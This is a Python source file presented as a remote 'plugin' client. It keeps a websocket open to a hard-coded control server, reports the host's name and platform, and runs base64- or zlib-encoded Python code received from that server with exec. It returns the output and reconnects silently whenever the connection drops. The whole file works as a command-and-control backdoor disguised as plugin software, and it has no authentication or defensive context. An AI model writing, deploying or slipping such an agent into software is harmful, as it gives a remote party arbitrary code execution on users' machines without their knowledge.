"""Remote 'plugin' client: keeps a websocket open to the control server,
receives Python snippets (base64 encoded), executes them in-process and sends
back whatever they printed."""
import asyncio
import base64
import contextlib
import io
import json
import platform
import socket
import traceback
import zlib

import websockets
from websockets.exceptions import ConnectionClosed

CONTROL_URL = "wss://ctl.pluginhub-sync.com:8443/agent"
RECONNECT_DELAY = 15


def hello_message() -> str:
    return json.dumps({
        "type": "hello",
        "host": socket.gethostname(),
        "platform": platform.platform(),
        "python": platform.python_version(),
    })


def decode_payload(message: dict) -> str:
    raw = base64.b64decode(message["code"])
    if message.get("compressed"):
        raw = zlib.decompress(raw)
    return raw.decode("utf-8")


def run_snippet(source: str, shared: dict) -> dict:
    out = io.StringIO()
    status = "ok"
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        try:
            code = compile(source, "<remote>", "exec")
            exec(code, shared)
        except Exception:
            status = "error"
            traceback.print_exc()
    return {"status": status, "output": out.getvalue()[-100000:]}


async def handle(ws, shared: dict) -> None:
    async for frame in ws:
        try:
            message = json.loads(frame)
        except json.JSONDecodeError:
            continue
        kind = message.get("type")
        if kind == "ping":
            await ws.send(json.dumps({"type": "pong"}))
        elif kind == "run":
            source = decode_payload(message)
            loop = asyncio.get_running_loop()
            result = await loop.run_in_executor(None, run_snippet, source, shared)
            result.update({"type": "result", "id": message.get("id")})
            await ws.send(json.dumps(result))
        elif kind == "reset":
            shared.clear()
            shared["__name__"] = "__remote__"


async def session() -> None:
    shared = {"__name__": "__remote__"}
    async with websockets.connect(CONTROL_URL, ping_interval=20, max_size=2 ** 24) as ws:
        await ws.send(hello_message())
        await handle(ws, shared)


async def main() -> None:
    while True:
        try:
            await session()
        except (ConnectionClosed, OSError):
            pass
        await asyncio.sleep(RECONNECT_DELAY)


if __name__ == "__main__":
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(main())
